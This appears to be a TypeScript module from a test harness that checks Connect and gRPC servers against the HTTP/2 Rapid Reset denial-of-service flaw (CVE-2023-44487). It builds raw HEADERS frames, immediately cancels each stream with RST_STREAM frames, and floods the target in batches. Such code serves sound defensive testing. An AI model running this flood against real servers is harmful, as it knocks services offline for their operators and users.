import {
  frame,
  frameFlags,
  hpack,
  types,
  uint32,
} from "../../packages/transport-connect/src/raw-http2.fixture.ts";
import type { Attack } from "../attack.ts";
import { flood } from "../flood.ts";
import { callTo } from "../requests.ts";

const headers = hpack(callTo("GetUser"));
const each = 100;

/** Streams opened and reset at once. Source: CVE-2023-44487. */
export const rapidReset: Attack = {
  name: "rapid-reset",
  what: "streams opened and reset at once (CVE-2023-44487)",
  transports: ["connect", "grpc"],
  run: (target) =>
    flood(target, {
      unit: "streams reset",
      each,
      next: (n) =>
        Buffer.concat(
          Array.from({ length: each }, (_, i) => {
            const stream = (n * each + i) * 2 + 1;
            const opened = frame(types.headers, frameFlags.endHeaders, stream, headers);
            return Buffer.concat([opened, frame(types.reset, 0, stream, uint32(8))]);
          }),
        ),
    }),
};
